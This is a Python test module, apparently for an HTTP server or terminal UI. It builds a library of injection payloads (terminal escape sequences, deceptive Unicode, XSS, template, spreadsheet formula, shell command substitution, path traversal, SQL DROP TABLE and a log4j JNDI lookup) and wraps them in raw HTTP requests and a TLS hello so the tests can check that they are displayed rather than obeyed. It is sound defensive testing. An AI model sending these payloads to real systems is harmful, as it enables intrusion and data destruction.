"""Bytes that try to come alive in whatever shows them: a terminal, a page, a spreadsheet, a shell, a path.

Every payload carries `MARKER` inside the part that must stay dead, so that a test can tell a payload that was
shown from one that was obeyed.
"""

from __future__ import annotations

import socket
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

MARKER: Final = b"7331"
_M: Final = MARKER

PAYLOADS: Final[dict[str, bytes]] = {
    # control functions of terminals
    "colour": b"\x1b[38;5;7331mred",
    "cursor-home-and-clear": b"\x1b[7331;1H\x1b[2J7331",
    "title": b"\x1b]0;owned 7331\x07",
    "title-st": b"\x1b]2;owned 7331\x1b\\",
    "title-unterminated": b"\x1b]0;owned 7331",
    "clipboard": b"\x1b]52;c;7331cm0gLXJm\x07",
    "hyperlink": b"\x1b]8;;http://7331.test/\x1b\\click\x1b]8;;\x1b\\",
    "device-status": b"\x1b[6n7331",
    "device-control": b"\x1bP+q7331\x1b\\",
    "application-program-command": b"\x1b_G7331;a=T\x1b\\",
    "privacy-message": b"\x1b^7331\x1b\\",
    "start-of-string": b"\x1bX7331\x1b\\",
    "full-reset": b"\x1bc7331",
    "alternate-screen": b"\x1b[?1049l7331",
    "mouse-and-paste-modes": b"\x1b[?1003;7331h\x1b[?2004h",
    "mode-report": b"\x1b[?7331$p",
    "lone-escape": b"7331\x1b",
    "iterm-image": b"\x1b]1337;File=inline=1:7331\x07",
    "c1-csi-byte": b"\x9b31;7331m",
    "c1-csi-utf8": b"\xc2\x9b31;7331m",
    "c1-osc-utf8": b"\xc2\x9d0;7331\xc2\x9c",
    "c1-next-line": b"7331\xc2\x85forged line 7331",
    # other controls
    "bell-backspace-delete": b"7331\x07\x08\x08\x08\x08\x7f",
    "nul": b"73\x0031 7331",
    "vertical-tab-form-feed": b"7331\x0bforged\x0cforged 7331",
    "shift-out": b"\x0e7331\x0f",
    "carriage-return-overwrite": b"7331\rGET /innocent",
    # text that lies about itself
    "bidi-override": "7331\u202etxt.exe\u2066x\u2069".encode(),
    "bidi-marks": "7331\u200e\u200f\u061c".encode(),
    "zero-width": "73\u200b31 7\u200c3\u200d3\ufeff1 7331".encode(),
    "tags": ("7331" + "".join(chr(0xE0000 + ord(c)) for c in "hidden")).encode(),
    "zalgo": ("7331" + "Z" + "̸̡͓͕̤̪̳̈́̆͛" * 12).encode(),
    "line-separators": "7331\u2028forged\u2029forged".encode(),
    "wide": "7331漢字한글ﾃｽﾄ👩\u200d👩\u200d👧\u200d👦🇫🇷".encode(),
    "private-use": "7331\ue000\U000f0000".encode(),
    "interlinear": "\ufff97331\ufffahidden\ufffb".encode(),
    "invalid-utf8": b"7331\xff\xfe\xc0\xaf\xe2\x28\xa1\xf4\x90\x80\x80",
    "surrogate-utf8": b"7331\xed\xa0\x80\xed\xb0\x80",
    "overlong-escape": b"\xc1\x9b7331\xe0\x80\x9b7331",
    # markup
    "rich-markup": b"[bold red on white]7331[/][link=http://7331.test]x[/link][@click=app.quit]7331[/]",
    "unbalanced-markup": b"[/7331] [[ ]] [7331",
    "script": b"</title></style></textarea><script>document.title='7331';window.owned7331=1</script>",
    "attributes": b'" onmouseover=owned7331=1 autofocus onfocus=owned7331=1 x=\'" \' onerror="owned7331=1',
    "image": b"<img src=x onerror=window.owned7331=1><svg/onload=window.owned7331=1>",
    "comment": b"--><script>window.owned7331=1</script><!--",
    "entity": b"&lt;script&gt;7331&#x1b;[31m&quot;&nbsp;",
    "template": b"{{7331*7331}} ${7331} <%= 7331 %> {7331} %7331s %n",
    "script-url": b"javascript:window.owned7331=1//",
    # other sinks
    "formula": b'=HYPERLINK("http://7331.test","x")',
    "formula-plus": b"+7331+cmd|' /C calc'!A0",
    "shell": b"';touch /tmp/7331;'$(touch /tmp/7331)`touch /tmp/7331`",
    "path-traversal": b"/../../../../../../etc/passwd7331%2e%2e%2f%00",
    "json": b'\\","7331":"\\u001b[31m\\ud800',
    "sql": b"7331'; DROP TABLE exchange; --",
    "like-wildcards": b"%7331_\\%",
    "log4j": b"${jndi:ldap://7331.test/a}",
}

_FIELDS: Final = (
    b"Host", b"User-Agent", b"Cookie", b"Referer", b"Origin", b"Accept", b"Accept-Language", b"Content-Type",
    b"Sec-Fetch-Dest", b"Sec-Fetch-Mode", b"Sec-Fetch-Site", b"Sec-CH-UA", b"Authorization", b"Range",
    b"X-Any",
)  # fmt: skip


def in_fields(payload: bytes, *, accept: bytes | None = None) -> bytes:
    """A sound request line; the payload is the value of every field, a field name, the query and the content.

    With `accept` that one field keeps a value of the caller's choice.
    """
    inline = payload.replace(b"\n", b"")
    lines = [b"POST /in-fields?q=%s HTTP/1.1" % inline.replace(b" ", b"+").replace(b"\r", b"")]
    lines += [b"%s: %s" % (name, inline) for name in _FIELDS if accept is None or name != b"Accept"]
    if accept is not None:
        lines.append(b"Accept: " + accept)
    lines += [
        b"%s: 7331" % inline.replace(b":", b""),
        b"Content-Length: %d" % len(payload),
        b"Connection: close",
    ]
    return b"\r\n".join(lines) + b"\r\n\r\n" + payload


def in_line(payload: bytes) -> bytes:
    """The payload as method, request target and version, and as chunk extension and trailer field."""
    word = payload.replace(b" ", b"").replace(b"\n", b"").replace(b"\r", b"")
    return (
        b"M%s /in-line/%s %s\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        b"%x;%s=%s\r\n%s\r\n0\r\nX-Trailer: %s\r\n%s: 7331\r\n\r\n"
    ) % (word, word, word, len(payload), word, word, payload, word, word.replace(b":", b""))


def requests() -> Iterator[tuple[str, bytes]]:
    """Every payload in every place: a name for the test's report, and the bytes of one connection."""
    for name, payload in PAYLOADS.items():
        yield f"{name} in fields", in_fields(payload)
        yield f"{name} in the request line", in_line(payload)
        yield f"{name} instead of a request", payload
        yield f"{name} in half a head", b"GET / HTTP/1.1\r\nX: " + payload


def crowded() -> list[bytes]:
    """All payloads in a few requests, for sinks where each one costs time: the panes of the UI."""
    inline = [p.replace(b"\n", b"").replace(b"\r", b"") for p in PAYLOADS.values()]
    fields = b"".join(b"X-%d: %s\r\n" % (number, value) for number, value in enumerate(inline))
    names = b"".join(
        b"%s: %d\r\n" % (value.replace(b":", b""), number) for number, value in enumerate(inline)
    )
    content = b"\n".join(PAYLOADS.values())
    pairs = b"&".join(b"%s=%s" % (value, value) for value in inline)
    nested = b'{"7331": ["' + b'","'.join(value.replace(b'"', b"") for value in inline) + b'"]}'
    head = b"POST /crowded/%d?7331 HTTP/1.1\r\nHost: 7331\r\nConnection: close\r\n"

    def with_content(number: int, kind: bytes, data: bytes) -> bytes:
        return head % number + b"Content-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(data)) + data

    target = b"/".join(value.replace(b" ", b"") for value in inline)
    return [
        head % 1 + fields + b"\r\n",
        head % 2 + names + b"\r\n",
        with_content(3, b"text/plain; charset=utf-8", content),
        with_content(4, b"application/x-www-form-urlencoded", pairs),
        with_content(5, b"application/json", nested),
        with_content(6, b"text/html; charset=7331\x1b[31m", content),
        b"G\x1b[7331m /crowded/7/%s \x1b]0;7331\x07\r\nConnection: close\r\n\r\n" % target,
        in_line(PAYLOADS["clipboard"]),
        b"\x1b]52;c;7331\x07" + content,
        tls_hello(b"\x1b]0;7331\x07.test"),
    ]


def tls_hello(name: bytes) -> bytes:
    """A TLS ClientHello whose server name is `name` (RFC 8446 §4.1.2, RFC 6066 §3)."""
    entry = b"\x00" + len(name).to_bytes(2, "big") + name
    sni = len(entry).to_bytes(2, "big") + entry
    extensions = b"\x00\x00" + len(sni).to_bytes(2, "big") + sni
    hello = b"\x03\x03" + b"7331" * 8 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    hello += len(extensions).to_bytes(2, "big") + extensions
    handshake = b"\x01" + len(hello).to_bytes(3, "big") + hello
    return b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake


def send(address: tuple[str, int], data: bytes) -> bytes:
    """Send everything on a connection of its own, then FIN; what came back until the other side ended."""
    with socket.create_connection(address, timeout=60) as client:
        received = b""
        try:
            client.sendall(data)
            client.shutdown(socket.SHUT_WR)
            while piece := client.recv(65536):
                received += piece
        except ConnectionError:
            pass  # an answer to bytes we had not finished sending ends in RST: that is TCP, not a failure
        return received
